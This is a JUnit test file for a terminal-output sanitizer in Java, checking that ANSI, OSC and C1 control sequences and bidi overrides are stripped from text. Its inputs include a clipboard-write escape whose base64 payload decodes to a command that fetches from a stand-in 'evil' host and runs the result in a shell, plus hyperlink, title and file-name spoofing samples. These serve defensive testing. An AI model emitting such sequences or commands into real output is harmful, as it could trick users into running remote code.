package dev.timmy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

class SanitizerTest {
  @Test
  void a_screen_clear_and_colours_are_removed_whole() {
    assertEquals("Fix login", Sanitizer.terminal("\u001B[2J\u001B[HFix \u001B[31;1mlogin\u001B[0m"));
  }

  @Test
  void osc_52_cannot_write_the_clipboard_nor_a_title_be_set() {
    assertEquals("ab", Sanitizer.terminal("a\u001B]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007b"));
    assertEquals("ab", Sanitizer.terminal("a\u001B]0;pwned\u001B\\b"));
    assertEquals("ab", Sanitizer.terminal("a\u009D8;;http://evil\u009Cb"));
  }

  @Test
  void carriage_return_bell_backspace_and_c1_are_removed() {
    assertEquals("merged? no", Sanitizer.terminal("merged? no\r"));
    assertEquals("ok", Sanitizer.terminal("o\u0007\u0008k\u0085\u009B"));
  }

  @Test
  void bidi_overrides_and_isolates_cannot_reorder_a_line() {
    assertEquals("evil.exe.txt", Sanitizer.terminal("evil\u202E.exe\u202C.txt"));
    assertEquals("ab", Sanitizer.terminal("a\u2066\u2067\u2068\u2069\u200E\u200F\u061Cb"));
  }

  @Test
  void newlines_tabs_and_ordinary_unicode_stay() {
    assertEquals("ligne\tété ✔ 日本\n", Sanitizer.terminal("ligne\tété ✔ 日本\n"));
    assertNull(Sanitizer.terminal(null));
  }

  @Test
  void clip_keeps_one_line_of_at_most_max_characters() {
    assertEquals("a b…", Sanitizer.clip("a\nb\u001B[2Jcdef", 3));
  }

  @Test
  void a_sanitizing_stream_cleans_lines_written_in_pieces() {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    PrintStream s = Sanitizer.stream(new PrintStream(bytes, true, StandardCharsets.UTF_8));
    s.print("title \u001B[");
    s.println("2J done");
    s.print("tail\u0007");
    s.flush();
    assertEquals("title  done" + System.lineSeparator(), bytes.toString(StandardCharsets.UTF_8), "a partial line waits");
    s.close();
    assertEquals("title  done" + System.lineSeparator() + "tail", bytes.toString(StandardCharsets.UTF_8));
  }
}
